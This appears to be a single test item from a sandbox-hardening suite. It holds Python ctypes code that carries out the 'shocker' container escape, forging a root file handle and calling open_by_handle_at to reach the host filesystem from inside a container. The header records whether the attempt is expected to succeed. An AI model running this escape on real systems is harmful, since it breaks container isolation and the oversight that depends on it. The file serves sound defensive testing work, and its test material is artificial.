# row: 80
# attempt: open the host's root by its handle (the "shocker" escape)
# expect: outcome=ok
# control: plain
# trips: achieved
import ctypes
import os

from hostile import syscall


class file_handle(ctypes.Structure):
    _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("handle", ctypes.c_ubyte * 128)]


handle, number = file_handle(128), ctypes.c_int()
place = ctypes.c_char_p(b"/usr/bin")
syscall("name_to_handle_at", -100, place, ctypes.byref(handle), ctypes.byref(number), 0)
root = file_handle(8, 1, (ctypes.c_ubyte * 128)(2))
for path in ("/usr/bin", "/opt/env", "/etc", "/workspace"):
    if os.path.isdir(path):
        fd = os.open(path, os.O_RDONLY)
        syscall("open_by_handle_at", fd, ctypes.byref(root), 0)
        os.close(fd)
